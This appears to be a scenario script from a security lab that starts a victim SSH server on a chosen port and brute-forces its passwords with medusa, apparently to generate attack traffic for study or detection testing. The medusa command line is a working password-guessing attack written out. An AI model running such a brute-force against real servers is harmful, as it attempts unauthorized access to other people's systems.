# SPDX-License-Identifier: MIT
# label: bruteforce-ssh
# source: lab-medusa
# needs: medusa hydra sshd
# seconds: 60
# Passwords for ssh on a port of its own choice, from inside to outside.
. $lab/victims.sh

servers() {
	_port=$(choose 2022 10022 50022)
	victim_ssh t "$_port"
	words_up 40
	users_up 4
}

scenario() {
	_tasks=$(choose 1 3)
	setting options "port $_port -t $_tasks"
	attack e t tcp "$_port" -- timeout 50 medusa -h "$(addr t)" -n "$_port" -U "$work/users" \
		-P "$work/words" -M ssh -t "$_tasks"
}
